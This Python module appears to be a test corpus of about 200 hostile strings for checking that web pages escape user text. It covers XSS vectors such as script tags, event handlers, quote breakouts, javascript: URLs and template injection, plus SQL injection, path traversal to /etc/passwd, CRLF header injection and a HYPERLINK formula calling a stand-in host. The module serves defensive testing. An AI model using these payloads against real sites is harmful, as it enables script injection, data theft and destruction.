"""Two hundred strings that become code, or a request, where a page does not escape them.

Each has a number and, but for those that only look strange, calls `hit(number)` or asks `foreign.test` for a
path of its number. `PLACES` are pages that escape nothing: there they do so, and are seen.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

FOREIGN = "foreign.test"
COUNT = 200
_PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="

#: where a page puts a text → such a page, with {} for the text
PLACES: dict[str, str] = {
    "markup": "<p>{} </p>",
    "double quotes": f'<img src="{_PIXEL}" alt="{{}}">',
    "single quotes": f"<img src='{_PIXEL}' alt='{{}}'>",
    "no quotes": f"<img src={_PIXEL} alt={{}}>",
    "script": '<script>var said = "{}";</script>',
    "single-quoted script": "<script>var said = '{}';</script>",
    "backtick script": "<script>var said = `{}`;</script>",
    "data": '<script type="application/json">{{"text": "{}"}}</script>',
    "comment": "<!-- {} -->",
    "text area": "<textarea>{}</textarea>",
    "title": "<title>{}</title>",
    "style": '<style>p {{ content: "{}"; }}</style><p>text</p>',
    "style attribute": '<p style="content: {}">text</p>',
    "address": '<iframe src="{}"></iframe>',
    "template": "{}",
}
#: the texts of this place are shown as they are, and run nowhere
INERT = "nowhere"

# HIT calls the function, FOREIGN/№ is the address, № the number.
_SCRIPTS = (
    "<script>HIT</script>",
    "<SCRIPT>HIT</SCRIPT>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script\t>HIT</script\t>",
    "<script/x>HIT</script/x>",
    "<script x='>'>HIT</script>",
    "<script>HIT</script",
    "<script type=module>HIT</script>",
    "<script type=text/javascript>HIT</script>",
    "<script defer src=data:text/javascript,HIT></script>",
    "<script src='data:,HIT'></script>",
    "<script src=//FOREIGN></script>",
    "<script src=https://FOREIGN></script>",
    "<svg><script>HIT</script></svg>",
    "<svg><script>&#104;it(№)</script></svg>",
    "<svg><script href='data:text/javascript,HIT'/></svg>",
    "</p><script>HIT</script>",
    "</div></main></body><script>HIT</script>",
    "<<script>HIT</script>",
    "<b><script>HIT</script></b>",
    "退款<script>HIT</script>退款",
    "<table><script>HIT</script></table>",
    "<select><script>HIT</script></select>",
    "<noscript></noscript><script>HIT</script>",
    "<template></template><script>HIT</script>",
    "<!--><script>HIT</script>",
    "<!--x--!><script>HIT</script>",
    "<?x ?><script>HIT</script>",
    "<![CDATA[><script>HIT</script>]]>",
    "<script>window['h'+'it'](№)</script>",
    "<script>\\u0068it(№)</script>",
    "<script>setTimeout('HIT')</script>",
    "<script>Function('HIT')()</script>",
    "<script>[№].map(hit)</script>",
)
_HANDLERS = (
    "<img src=x onerror=HIT>",
    "<IMG SRC=x ONERROR=HIT>",
    "<img src=x onerror='HIT'>",
    '<img src=x onerror="HIT">',
    "<img/src='x'/onerror=HIT>",
    "<img\tsrc=x\tonerror\t=\tHIT>",
    "<img\x0csrc=x\x0conerror=HIT>",
    "<img src=x onerror=HIT//",
    "<img src=x onerror=HIT x=",
    "<img src=x:x onerror=&#104;it(№)>",
    "<img src=x onerror=&#x68;it(№)>",
    "<img src=x onerror=&#0000104it(№)>",
    "<img src=x onerror=hit&lpar;№&rpar;>",
    "<img src=x onerror=hit&#40;№&#41>",
    "<img src=x onerror=hit.call(0,№)>",
    "<img src=x onerror=top['hit'](№)>",
    "<img src=x onerror=eval('h'+'it(№)')>",
    '<img src=x onerror="eval(String.fromCharCode(104,105,116)+`(№)`)">',
    "<img src=x onerror=javascript:HIT>",
    "<img src=x onerror=alert(hit(№))>",
    '<img """><img src=x onerror=HIT>">',
    "<img alt='<' src=x onerror=HIT>",
    "<img src=x id=a name=b class=c onerror=HIT hidden>",
    "<image src=x onerror=HIT>",
    "<picture><img srcset=x onerror=HIT></picture>",
    "<audio src=x onerror=HIT>",
    "<video src=x onerror=HIT>",
    "<video><source onerror=HIT></video>",
    "<script src=x:x onerror=HIT></script>",
    "<link rel=stylesheet href=x:x onerror=HIT>",
    "<style onload=HIT></style>",
    "<iframe onload=HIT></iframe>",
    "<iframe srcdoc='' onload=HIT></iframe>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<details open ontoggle=HIT>x</details>",
    "<input type=image src=x:x onerror=HIT>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<svg onload=HIT>",
    "<svg/onload=HIT>",
    "<svg><svg onload=HIT></svg>",
    "<svg><image href=x:x onerror=HIT></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "<svg><set onbegin=HIT attributeName=x to=1></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "<svg><desc><img src=x onerror=HIT></desc></svg>",
    "<svg><style><img src=x onerror=HIT></style></svg>",
    "<math><mtext><img src=x onerror=HIT></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
    "<math><mglyph><style><img src=x onerror=HIT>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=HIT>x</p>",
    "<style>@keyframes k{}</style><x-y style='animation:k 1ms' onanimationstart=HIT>x</x-y>",
    "<table><td><img src=x onerror=HIT></td></table>",
    "<b>bold</i><img src=x onerror=HIT>",
    "订单<img src=x onerror=HIT>还没到",
)
_REQUESTS = (
    "<img src=//FOREIGN>",
    "<img srcset=//FOREIGN>",
    "<link rel=stylesheet href=//FOREIGN>",
    "<iframe src=//FOREIGN></iframe>",
    "<object data=//FOREIGN></object>",
    "<embed src=//FOREIGN>",
    "<video poster=//FOREIGN></video>",
    "<table background=//FOREIGN><td>x</table>",
    "<meta http-equiv=refresh content='0;url=//FOREIGN'>",
    "<base href=https://foreign.test/><img src=№>",
    "<style>@import '//FOREIGN';</style>",
    "<p style='background:url(//FOREIGN)'>x</p>",
    "<svg><image href=//FOREIGN /></svg>",
    "<input type=image src=//FOREIGN>",
)
_OUT_OF_QUOTES = {
    "double quotes": (
        '" onload="HIT',
        '"onload="HIT',
        '" onload=HIT x="',
        '"><script>HIT</script>',
        '"/><svg/onload=HIT>',
        '" style="animation:k 1ms" onload="HIT',
    ),
    "single quotes": (
        "' onload='HIT",
        "'onload='HIT",
        "' onload=HIT x='",
        "'><script>HIT</script>",
        "'/><svg/onload=HIT>",
    ),
    "no quotes": ("x onload=HIT", "x\tonload=HIT", "x/ onload=HIT", "><script>HIT</script>"),
    "script": (
        '";HIT;//',
        '"-HIT-"',
        '"+HIT+"',
        '\\\\";HIT//',
        '"\nHIT\n"',
        "</script><script>HIT</script>",
        "</SCRIPT ><img src=x onerror=HIT>",
        '";</script><svg/onload=HIT>',
    ),
    "single-quoted script": ("';HIT;//", "'-HIT-'", "'+HIT+'", "\\\\';HIT//"),
    "backtick script": ("${HIT}", "x${HIT}y", "${`${HIT}`}", "`;HIT//"),
    "data": (
        "</script><script>HIT</script>",
        '"}</script><img src=x onerror=HIT>',
        "</script/><svg onload=HIT>",
        "\u2028</script><script>HIT</script>\u2029",
    ),
    "comment": ("--><script>HIT</script>", "--!><img src=x onerror=HIT>", "-->\n<svg onload=HIT><!--"),
    "text area": ("</textarea><script>HIT</script>", "</TEXTAREA ><img src=x onerror=HIT>"),
    "title": ("</title><script>HIT</script>", "</title/><svg onload=HIT>"),
    "style": (
        "</style><script>HIT</script>",
        '"; background:url(//FOREIGN); x:"',
        '"} p{background:url(//FOREIGN)} x{"',
        '"} body{list-style:url(//FOREIGN)} li{display:list-item}"</style><li>x</li>',
    ),
    "style attribute": (
        "x; background:url(//FOREIGN)",
        "x; background:image-set('//FOREIGN' 1x)",
        'x"><img src=x onerror=HIT>',
        'x; animation:k 1ms" onanimationend="HIT"><style>@keyframes k{}</style><p x="',
    ),
    "address": (
        "javascript:parent.HIT",
        "JaVaScRiPt:parent.HIT",
        "java\tscript:parent.HIT",
        "\x01javascript:parent.HIT",
        "  javascript:parent.HIT",
        "javascript&colon;parent.HIT",
        "&#106;avascript:parent.HIT",
        "javascript://x%0aparent.HIT",
        "javascript:'<script>parent.HIT</script>'",
        "//FOREIGN",
        "\\\\FOREIGN",
        "https:FOREIGN",
    ),
    "template": (
        "{{ HIT }}",
        "{{HIT}}",
        "{{- HIT -}}",
        "{% if HIT %}{% endif %}",
        "{% set x = HIT %}",
        "{{ [№] | map('int') | map('string') | list and HIT }}",
        "{{ 7 * 7 }}{{ HIT }}",
        "{# #}{{ HIT }}",
    ),
}
_STRANGE = (
    "\u202egnp.tpircs\u202c txt.№",
    "\u2066\u2067\u202b № \u2069",
    "\u200bt\u200ce\u200dx\ufefft №",
    "e\u0301\u0302\u0303\u0304\u0305" + "\u0336" * 40 + " №",
    "👩‍👩‍👧‍👦 🇨🇳 🏳️‍🌈 №",
    "مرحبا 你好 שלום №",
    "раураl Αdmin аdmin №",
    "＜script＞hit（№）＜/script＞",
    "＜img src=x onerror=hit（№）＞",
    "‹script›hit(№)‹/script›",
    "\\u003cscript\\u003ehit(№)\\u003c/script\\u003e",
    "%3Cscript%3Ehit(№)%3C/script%3E",
    "&lt;script&gt;hit(№)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit(№)&amp;gt;",
    "+ADw-script+AD4-hit(№)+ADw-/script+AD4-",
    "\x1b[31mred\x1b[0m \x07 №",
    "a\x00b №",
    "<scr\x00ipt>hit(№)</scr\x00ipt>",
    "\ufffe\uffff №",
    "W" * 3_000 + " №",
    "長" * 3_000 + " №",
    "__proto__ constructor toString №",
    '=HYPERLINK("//foreign.test/№") №',
    "#{7*7} <%= 7*7 %> ${{7*7}} №",
    "' OR 1=1; DROP TABLE texts; -- №",
    "../../../../etc/passwd №",
    "\r\nSet-Cookie: hit=№",
)


@dataclass(frozen=True)
class Hostile:
    """One string."""

    number: int
    text: str
    #: of `PLACES`, where it does something; or `INERT`
    place: str

    @property
    def page(self) -> str:
        """A page that shows it without escaping."""
        return PLACES[self.place].format(self.text)


def _families() -> Iterator[tuple[str, str]]:
    for text in (*_SCRIPTS, *_HANDLERS, *_REQUESTS):
        yield "markup", text
    for place, texts in _OUT_OF_QUOTES.items():
        yield from ((place, text) for text in texts)
    yield from ((INERT, text) for text in _STRANGE)


def _numbered(number: int, text: str) -> str:
    return text.replace("HIT", "hit(№)").replace("FOREIGN", f"{FOREIGN}/№").replace("№", str(number))


HOSTILE = [Hostile(n, _numbered(n, text), place) for n, (place, text) in enumerate(_families(), 1)]
